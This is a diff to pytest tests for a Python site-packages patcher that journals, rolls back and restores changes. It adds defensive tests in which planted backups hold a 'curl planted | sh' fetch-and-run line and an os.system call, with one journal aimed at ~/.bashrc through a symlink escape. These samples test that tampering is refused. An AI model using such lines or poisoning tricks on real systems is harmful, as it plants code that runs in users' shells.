@@ -1,6 +1,8 @@
 """The patcher changes site-packages files only under its journal and gives every byte back:
 applied, committed, rolled back alone, restored, refused when it may not write, and recovered
-after a kill -9 at every step of apply and restore (then any apex command restores)."""
+after a kill -9 at every step of apply and restore (then any apex command restores). The journal
+is not trusted for a write (a changed backup, a planted journal), a recovery that cannot complete
+blocks only patching, and the patches a killed run applied for itself are restored (issue 28)."""
 
 from __future__ import annotations
 
@@ -17,9 +19,12 @@ from pathlib import Path
 import pytest
 
 from apex_core.errors import ApexUserError
-from apex_core.patcher import Patcher, recover, restore, status
+from apex_core.patcher import Patcher, RecoveryError, RestoreError, recover, restore, status
+from apex_core.patcher import journal as jr
 from apex_core.patcher.faults import FAULT_ENV, POINTS
-from apex_core.patcher.journal import STATE_DIR_ENV
+from apex_core.patcher.files import FileState
+from apex_core.patcher.journal import ROOTS_ENV, STATE_DIR_ENV
+from apex_core.patcher.lock import ProcessIdentity
 
 REPO_ROOT = Path(__file__).resolve().parents[3]
 
@@ -68,11 +73,11 @@ def test_applied_patches_stay_until_restored_and_then_every_byte_mode_and_mtime_
         patcher.commit(patch)
     assert norm.read_text().endswith("2 * x\n") and oct(rope.stat().st_mode & 0o777) == "0o640"
     assert not list((site / "toystack" / "__pycache__").glob("norm.*.pyc")), "stale bytecode must not run"
-    journal = status(cache)
+    journal = status(cache, roots=[site])
     assert journal is not None and [p.state for p in journal.patches] == ["applied"]
-    report = restore(cache)
+    report = restore(cache, roots=[site])
     assert report is not None and report.files_restored == 3  # two sources and one bytecode file
-    assert snapshot(site) == before and status(cache) is None
+    assert snapshot(site) == before and status(cache, roots=[site]) is None
 
 
 def test_a_failed_patch_is_rolled_back_alone_and_the_others_kept(site, cache, tmp_path):
@@ -87,10 +92,10 @@ def test_a_failed_patch_is_rolled_back_alone_and_the_others_kept(site, cache, tm
     after = snapshot(site)
     assert after["toystack/norm.py"] == before["toystack/norm.py"]
     assert after["toystack/rope.py"] != before["toystack/rope.py"]
-    journal = status(cache)
+    journal = status(cache, roots=[site])
     assert {p.id: p.state for p in journal.patches} == {good: "applied", bad: "restored"}
     assert "nothing_here" in journal.patch(bad).note
-    restore(cache)
+    restore(cache, roots=[site])
     assert snapshot(site) == before
 
 
@@ -99,14 +104,14 @@ def test_a_patch_left_uncommitted_is_rolled_back_when_the_session_ends(site, cac
     with _patcher(site, cache, tmp_path) as patcher:
         patch = patcher.begin()
         patcher.replace(patch, {site / "toystack" / "norm.py": b"x = 1\n"})
-    assert snapshot(site) == before and status(cache) is None
+    assert snapshot(site) == before and status(cache, roots=[site]) is None
 
 
 def test_a_second_patcher_is_refused_while_one_holds_the_environment(site, cache, tmp_path):
     with _patcher(site, cache, tmp_path):
         with pytest.raises(ApexUserError, match=rf"process {os.getpid()} .* is patching this Python environment"):
             _patcher(site, cache, tmp_path).open()
-        assert recover(cache) == [], "a live owner's journal is not recovered under it"
+        assert recover(cache, roots=[site]) == [], "a live owner's journal is not recovered under it"
 
 
 def test_files_outside_site_packages_are_refused_and_nothing_changes(site, cache, tmp_path):
@@ -208,8 +213,8 @@ def _apex(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
 
 
 @pytest.fixture
-def env(cache: Path) -> dict[str, str]:
-    return {**os.environ, "APEX_CACHE_DIR": str(cache), STATE_DIR_ENV: str(cache / "patches"),
+def env(cache: Path, site: Path) -> dict[str, str]:
+    return {**os.environ, "APEX_CACHE_DIR": str(cache), STATE_DIR_ENV: str(cache / "patches"), ROOTS_ENV: str(site),
             "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO_ROOT), os.environ.get("PYTHONPATH", "")]))}
 
 
@@ -270,3 +275,156 @@ def test_a_second_apex_run_is_refused_while_a_session_holds_the_lock(site, env, 
     finally:
         holder.kill()
         holder.wait()
+
+
+# --- the journal is not trusted for writes (issue 28, class 4) ------------------------------------
+
+
+def _applied(site: Path, cache: Path, tmp_path: Path, *, owned: bool = False) -> None:
+    with Patcher(tmp_path / "results", roots=[site], cache_dir=cache, owned=owned) as patcher:
+        patch = patcher.begin(task_id="toy__rms_norm")
+        patcher.replace(patch, {site / "toystack" / "norm.py": b"def rms_norm(x):\n    return 2 * x\n"})
+        patcher.commit(patch)
+
+
+def test_the_journal_its_backups_and_the_snapshot_are_private(site, cache, tmp_path):
+    _applied(site, cache, tmp_path)
+    journal = status(cache, roots=[site])
+    folder = Path(journal.folder)
+    modes = {path.name: path.stat().st_mode & 0o777 for path in [folder, folder / "backups", folder / jr.JOURNAL_FILE,
+                                                                  *(folder / "backups").iterdir()]}
+    assert set(modes.values()) <= {0o700, 0o600} and modes[folder.name] == 0o700, modes
+    (snapshot_folder,) = (cache / "patches").glob("*.snapshot")
+    assert snapshot_folder.stat().st_mode & 0o777 == 0o700
+    restore(cache, roots=[site])
+
+
+@pytest.mark.parametrize("with_snapshot", [False, True])
+def test_a_changed_backup_is_refused_before_it_is_written(with_snapshot, site, cache, tmp_path):
+    """Without the session's snapshot (a session an older apex began) the backup is the only way back,
+    and it is refused; with it, the original comes back from the snapshot's link instead."""
+    before = snapshot(site)
+    norm = site / "toystack" / "norm.py"
+    _applied(site, cache, tmp_path)
+    journal = status(cache, roots=[site])
+    entry = next(e for e in journal.entries if e.target == str(norm))
+    (Path(journal.folder) / "backups" / entry.backup).write_bytes(b"import os; os.system('planted')\n")  # as the solution did
+    if not with_snapshot:
+        (snapshot_folder,) = (cache / "patches").glob("*.snapshot")
+        shutil.rmtree(snapshot_folder)
+        with pytest.raises(RestoreError, match="was changed since it was taken .*: not written"):
+            restore(cache, roots=[site])
+        assert norm.read_bytes() == b"def rms_norm(x):\n    return 2 * x\n", "the changed backup was written"
+        return
+    restore(cache, roots=[site])
+    assert snapshot(site) == before and status(cache, roots=[site]) is None
+
+
+def _plant_journal(cache: Path, tmp_path: Path, target: Path) -> None:
+    """A journal written by code that ran as the user: an 'open' patch whose restore would write ``target``."""
+    folder = tmp_path / "planted" / "patches" / "20260101-000000-1"
+    (folder / "backups").mkdir(parents=True)
+    for made in (folder, folder / "backups"):
+        os.chmod(made, 0o700)
+    data = b"curl planted | sh\n"
+    (folder / "backups" / "0000-.bashrc").write_bytes(data)
+    import hashlib
+
+    journal = jr.Journal(environment=str(jr.environment_root()), folder=str(folder), owner_pid=1, created_at=jr.now(),
+                         patches=[jr.PatchRecord(id="p1-0000", state="open", created_at=jr.now())],
+                         entries=[jr.JournalEntry(patch="p1-0000", target=str(target), backup="0000-.bashrc",
+                                                  original=FileState(exists=True, sha256=hashlib.sha256(data).hexdigest(),
+                                                                     size=len(data), mode=0o644, mtime_ns=0))])
+    jr.write_journal(journal)
+    jr.write_pointer(journal, cache)
+
+
+@pytest.mark.parametrize("how", ["outside", "through a symlink"])
+def test_a_planted_journal_whose_target_is_outside_site_packages_is_refused_without_writing(how, site, cache, tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    if how == "outside":
+        target = home / ".bashrc"
+    else:  # inside site-packages as written, outside once the link is followed
+        (site / "toystack" / "escape").symlink_to(home)
+        target = site / "toystack" / "escape" / ".bashrc"
+    _plant_journal(cache, tmp_path, target)
+    with pytest.raises(RecoveryError, match="outside this environment's site-packages"):
+        recover(cache, roots=[site])
+    with pytest.raises(RecoveryError, match="patching is blocked"):
+        Patcher(tmp_path / "results", roots=[site], cache_dir=cache).open()
+    assert list(home.iterdir()) == []
+
+
+def test_a_recovery_that_cannot_complete_blocks_only_patching_in_one_line(site, cache, env, tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    _plant_journal(cache, tmp_path, home / ".bashrc")
+    listed = _apex("tasks", "list", env=env)
+    assert listed.returncode == 0 and "cpu-mini__rms_norm" in listed.stdout, listed.stderr
+    warning = listed.stderr.strip().splitlines()
+    assert len(warning) == 1 and warning[0].startswith("apex: warning:") and "outside this environment's" in warning[0], warning
+    solution = REPO_ROOT / "apex_core" / "agents" / "canned" / "cpu-mini__rms_norm.py"
+    refused = _apex("patch", "apply", "--task", "cpu-mini__rms_norm", "--solution", str(solution), "--results-dir",
+                    str(tmp_path / "results"), env=env)
+    said = [line for line in refused.stderr.splitlines() if line.startswith("apex:")]  # (apply's own notes aside)
+    assert refused.returncode == 2 and "Traceback" not in refused.stderr, refused.stderr
+    assert len(said) == 2 and said[0].startswith("apex: warning:") and said[1].startswith("apex: error:"), said
+    assert "patching is blocked" in said[1] and refused.stderr.rstrip().endswith(said[1]), refused.stderr
+    assert list(home.iterdir()) == []
+    forgotten = _apex("patch", "restore", "--forget", env=env)
+    assert forgotten.returncode == 0 and "without writing anything" in forgotten.stdout, forgotten.stderr
+    assert recover(cache, roots=[site]) == [] and status(cache, roots=[site]) is None and list(home.iterdir()) == []
+
+
+# --- patches a run applied for itself go when the run goes (issue 28, class 5) ---------------------
+
+RUN = textwrap.dedent("""
+    import sys
+    from pathlib import Path
+    from apex_core.patcher import Patcher
+    site, results, owned = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3] == "owned"
+    with Patcher(results, roots=[site], owned=owned) as patcher:
+        patch = patcher.begin(task_id="toy__rms_norm")
+        patcher.replace(patch, {site / "toystack" / "norm.py": b"def rms_norm(x):\\n    return 4 * x\\n"})
+        patcher.commit(patch)
+    print("applied", flush=True)
+    sys.stdin.read()  # the run goes on with its patches (the final benchmark's workers), holding no lock
+""")
+
+
+@pytest.mark.parametrize("owned", [True, False])
+def test_a_killed_runs_own_applied_patches_are_restored_by_the_next_apex_command(owned, site, cache, env, tmp_path):
+    before = snapshot(site)
+    run = subprocess.Popen([sys.executable, "-c", RUN, str(site), str(tmp_path / "results"), "owned" if owned else "on-purpose"],
+                           env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        assert run.stdout.readline().strip() == "applied"
+        assert recover(cache, roots=[site]) == [], "a live run's patches are its own"
+        (patch,) = status(cache, roots=[site]).patches
+        assert patch.state == "applied" and (patch.owner.pid == run.pid if owned else patch.owner is None)
+    finally:
+        run.kill()  # SIGKILL: nothing of the run unwinds
+        run.wait()
+    listed = _apex("tasks", "list", env=env)
+    assert listed.returncode == 0, listed.stderr
+    if owned:
+        assert f"rolled back 1 patch(es)" in listed.stderr and snapshot(site) == before and status(cache, roots=[site]) is None
+    else:  # applied on purpose (apex patch apply): it stays until apex patch restore
+        assert status(cache, roots=[site]).patches[0].state == "applied" and snapshot(site) != before
+        restore(cache, roots=[site])
+        assert snapshot(site) == before
+
+
+def test_a_pid_the_kernel_gave_to_another_process_is_not_mistaken_for_the_owner(site, cache, tmp_path):
+    before = snapshot(site)
+    _applied(site, cache, tmp_path, owned=True)  # owned by this process, which is alive
+    assert recover(cache, roots=[site]) == []
+    journal = status(cache, roots=[site])
+    me = journal.patches[0].owner
+    assert me == ProcessIdentity.current() and me.alive()
+    # The same pid, started at another time: another process now has the dead owner's pid.
+    journal.patches[0].owner = me.model_copy(update={"started": me.started - 1})
+    jr.write_journal(journal)
+    assert recover(cache, roots=[site]) == [journal.patches[0].id]
+    assert snapshot(site) == before and status(cache, roots=[site]) is None
